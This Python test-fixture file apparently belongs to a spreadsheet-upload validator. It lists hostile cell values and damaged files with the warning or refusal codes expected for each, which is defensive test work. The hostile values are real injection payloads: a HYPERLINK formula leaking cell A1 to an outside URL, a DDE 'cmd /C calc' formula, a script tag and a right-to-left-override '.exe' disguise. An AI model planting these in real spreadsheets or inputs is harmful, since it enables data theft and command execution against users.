"""Files that are hostile, damaged, or of no table at all."""

import gzip
import io
import json
import zipfile

from advisor.rules.columns import Field
from tests.sheets.base import HEADINGS, ROWS, VALUES, Case, changed, plain, table, written


def _noted(cell: str, code: str | None = None, kept: str | None = None) -> Case:
    notes = [*VALUES[Field.NOTES][:2], cell if kept is None else kept, *VALUES[Field.NOTES][3:]]
    return Case(
        content=written(changed(11, lambda old, at: cell if at == 2 else old)).encode(),
        values={Field.NOTES: notes},
        said=[] if code is None else [(4, "Notes", code)],
    )


HOSTILE = {
    "formula": _noted('=HYPERLINK("http://example.org/?x="&A1,"click")', "formula_like_text"),
    "formula with at": _noted("@SUM(1+1)*cmd|' /C calc'!A0", "formula_like_text"),
    "full width formula": _noted("＝1+1", "formula_like_text"),
    "script": _noted("<script>alert(1)</script>"),
    "markdown": _noted("[click](http://example.org) :material/home: $x^2$"),
    "terminal codes": _noted("a\x1b[31mred", "control_characters_removed", "a[31mred"),
    "direction marks": _noted("abc\u202etxt.exe"),
    "very long cell": _noted("x" * 70_000),
    "long cell of quotes": _noted('"' * 5_000),
    "company called null": Case(
        content=written(changed(0, lambda cell, at: "NULL" if at == 2 else cell)).encode(),
        values={Field.COMPANY: [*VALUES[Field.COMPANY][:2], "NULL", *VALUES[Field.COMPANY][3:]]},
    ),
    "company called minus": Case(
        content=written(changed(0, lambda cell, at: "-" if at == 2 else cell)).encode(),
        values={Field.COMPANY: [*VALUES[Field.COMPANY][:2], "-", *VALUES[Field.COMPANY][3:]]},
        said=[(4, "Company", "company_suspect")],
    ),
    "company called true": Case(
        content=written(changed(0, lambda cell, at: "True" if at == 2 else cell)).encode(),
        values={Field.COMPANY: [*VALUES[Field.COMPANY][:2], "True", *VALUES[Field.COMPANY][3:]]},
    ),
    "html entities": Case(
        content=written(changed(0, lambda cell, _: cell.replace("&", "&amp;"))).encode(),
        damaged=frozenset({5, 6}),
        said=[(6, "Company", "html_entities")],
    ),
    "no company": Case(
        content=written(changed(0, lambda cell, at: "" if at == 2 else cell)).encode(),
        values={Field.COMPANY: [*VALUES[Field.COMPANY][:2], None, *VALUES[Field.COMPANY][3:]]},
    ),
    "doubled row": Case(
        content=written([*table(), ROWS[0]]).encode(),
        rows=range(2, 15),
        values={key: [*values, values[0]] for key, values in VALUES.items()},
        said=[(14, None, "duplicate_row")],
    ),
}


def _refused(content: bytes, *codes: str, name: str = "sheet.csv") -> Case:
    return Case(content=content, name=name, refused=codes, only_refused=True)


def _zipped(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "."), content)
    return out.getvalue()


_RECORDS = [dict(zip(HEADINGS, row, strict=True)) for row in ROWS]
_HTML = (
    "<table>"
    + "".join(
        "<tr>" + "".join(f"<td>{cell.replace('&', '&amp;')}</td>" for cell in row) + "</tr>"
        for row in table()
    )
    + "</table>"
)
DAMAGED = {
    "empty": _refused(b"", "empty_file"),
    "blanks only": _refused(b"  \r\n\r\n \t", "empty_file", "no_data_rows"),
    "headings only": _refused(written([HEADINGS]).encode(), "no_data_rows"),
    "mark only": _refused(b"\xef\xbb\xbf", "empty_file"),
    "picture": _refused(b"\x89PNG\r\n\x1a\n" + bytes(200), "not_a_table"),
    "pdf": _refused(b"%PDF-1.7\n" + bytes(range(256)), "not_a_table"),
    "jpeg": _refused(b"\xff\xd8\xff\xe0" + bytes(range(256)), "not_a_table"),
    "web page": _refused(
        b"<!DOCTYPE html><html><body>Log in</body></html>", "html_not_spreadsheet"
    ),
    "broken workbook": _refused(
        b"PK\x03\x04" + bytes(300), "corrupt_workbook", "not_a_table", name="a.xlsx"
    ),
    "old workbook header": _refused(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "corrupt_workbook",
        "not_a_table",
        "password_protected",
    ),
    "archive of pictures": _refused(
        _zipped(a__png=b"x", b__png=b"y"), "not_a_table", "zip_not_spreadsheet"
    ),
    "zipped": Case(
        content=_zipped(invites__csv=plain().encode()), refused=("zip_not_spreadsheet",)
    ),
    "gzipped": Case(content=gzip.compress(plain().encode()), refused=("gzip_not_spreadsheet",)),
    "records": Case(content=json.dumps(_RECORDS).encode(), refused=("json_not_spreadsheet",)),
    "page with a table": Case(content=_HTML.encode(), refused=("html_not_spreadsheet",)),
    "noise": Case(
        content=bytes(range(256)) * 20,
        refused=("not_a_table", "no_delimiter", "empty_file"),
        only_refused=True,
    ),
}
